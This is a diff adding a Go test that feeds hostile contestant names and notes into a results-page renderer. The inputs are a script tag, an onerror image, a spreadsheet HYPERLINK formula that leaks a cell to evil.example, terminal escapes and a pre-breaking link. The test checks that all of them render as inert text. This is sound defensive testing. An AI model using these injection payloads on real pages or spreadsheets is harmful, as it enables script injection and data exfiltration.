@@ -197,3 +197,35 @@ func sorted(cells []int) []int {
 	slices.Sort(out)
 	return out
 }
+
+// TestHostileNames renders contestants whose names and notes are markup, a script, a formula
+// and terminal escapes: the page shows them as text, runs nothing and refers outside itself
+// to nothing.
+func TestHostileNames(t *testing.T) {
+	p := fixture(t)
+	hostile := []string{
+		`<script>alert("names are data")</script>`,
+		`<img src="http://evil.example/x.png" onerror="alert(1)">`,
+		`=HYPERLINK("http://evil.example/?"&A1,"prize")`,
+		"eve\n\x1b[1A\x1b[2K",
+	}
+	for i, name := range hostile {
+		p.Contest.Contestants[i].Name = name
+	}
+	p.Contest.Contestants[3].Note = `</pre><a href="http://evil.example/">a link</a>`
+	page, err := pagetest.Parse(render(t, p))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(page.External) > 0 || page.Scripts > 0 {
+		t.Errorf("the page refers outside itself or runs a script: %q, %d scripts", page.External, page.Scripts)
+	}
+	for _, name := range hostile[:3] {
+		if !strings.Contains(page.Text["ranking"], name) {
+			t.Errorf("the ranking does not show %q as text", name)
+		}
+	}
+	if !strings.Contains(page.All, `</pre><a href="http://evil.example/">a link</a>`) {
+		t.Error("the compiler's message is not shown as text")
+	}
+}
